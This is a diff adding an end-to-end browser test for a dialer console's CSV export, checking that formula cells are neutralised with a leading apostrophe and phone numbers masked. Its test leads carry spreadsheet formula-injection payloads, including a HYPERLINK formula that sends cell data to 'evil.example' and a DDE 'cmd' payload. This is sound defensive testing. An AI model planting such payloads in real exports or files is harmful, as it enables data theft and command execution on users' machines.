@@ -5,9 +5,10 @@
 // dialgate (the simulator never saw more of the run's calls live at once). Screenshots go to
 // test-results/console/. Steps whose API routes have not landed yet are skipped, saying so.
 
-import { existsSync, mkdirSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync } from 'node:fs';
 import { dirname, join, resolve } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { parse as parseCsv } from 'csv-parse/sync';
 import { type Browser, chromium, type Page } from 'playwright-core';
 import { afterAll, beforeAll, describe, expect, type TestContext, test } from 'vitest';
 import { type LocalStack, startLocalStack } from '../../tools/local/stack.ts';
@@ -316,6 +317,61 @@ describe.skipIf(!haveChromium)('the web console in Chromium', { timeout: 120_000
     await page.getByLabel('show full phone numbers').check();
     await expect.poll(() => page.locator('#calls-table tbody').textContent()).toContain(INVALID_NUMBER);
     await shot('09-calls-failed');
+  });
+
+  test('Download CSV: every call of the filter, formula cells neutralised, phone numbers usable', async (ctx) => {
+    await requireRoute(ctx, 'GET', '/runs/x/calls');
+    // Valid Israeli mobiles (libphonenumber-js max), used by no other test here.
+    const dana = '+972524567301';
+    const noa = '+972534881302';
+    const { body } = await api('POST', '/runs', {
+      concurrency: 2,
+      leads: [
+        { phone: dana, name: '=HYPERLINK("https://evil.example/?"&A2,"Dana")', balance: -120 },
+        { phone: noa, name: '@SUM(1+1)', balance: '+35' },
+        { phone: INVALID_NUMBER, name: "-cmd|' /C calc'!A0" },
+      ],
+    });
+    const runId = body.run_id as string;
+    await page.goto(`${stack.apiUrl}/#/runs/${runId}`);
+    await waitForStatus(['completed']);
+
+    /** Clicks Download CSV and reads the file the browser saved. */
+    async function download() {
+      const [saved] = await Promise.all([
+        page.waitForEvent('download'),
+        page.getByRole('button', { name: 'Download CSV' }).click(),
+      ]);
+      const text = readFileSync((await saved.path())!, 'utf8');
+      return { name: saved.suggestedFilename(), text, rows: parseCsv(text, { bom: true }) as string[][] };
+    }
+
+    await page.getByLabel('show full phone numbers').check();
+    const whole = await download();
+    expect(whole.name).toBe(`dialgate-${runId}-calls.csv`);
+    // A byte order mark for Excel, then every cell quoted.
+    expect(whole.text.startsWith('\uFEFF"job_id","phone",')).toBe(true);
+    const [header, ...rows] = whole.rows as [string[], ...string[][]];
+    const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
+    expect(column('phone')).toEqual([dana, noa, INVALID_NUMBER]);
+    expect(column('name')).toEqual([
+      `'=HYPERLINK("https://evil.example/?"&A2,"Dana")`,
+      "'@SUM(1+1)",
+      "'-cmd|' /C calc'!A0",
+    ]);
+    expect(column('balance')).toEqual(['-120', '+35', '']);
+    expect(await page.locator('#calls-download-result').textContent()).toBe('3 calls saved as CSV.');
+
+    // The table's filter and phone setting apply: the failed call, its number masked.
+    await page.getByLabel('show full phone numbers').uncheck();
+    await page.getByLabel('Status').selectOption('failed');
+    const failed = await download();
+    expect(failed.name).toBe(`dialgate-${runId}-failed-calls.csv`);
+    expect(failed.rows.slice(1).map((row) => row[1])).toEqual(['+150******01']);
+    expect(await page.locator('#calls-download-result').textContent()).toContain(
+      '1 failed call saved as CSV, phone numbers masked',
+    );
+    await shot('09b-calls-download');
   });
 
   test('an unknown run: a clear message and no control to press, even right after a run that had them', async () => {
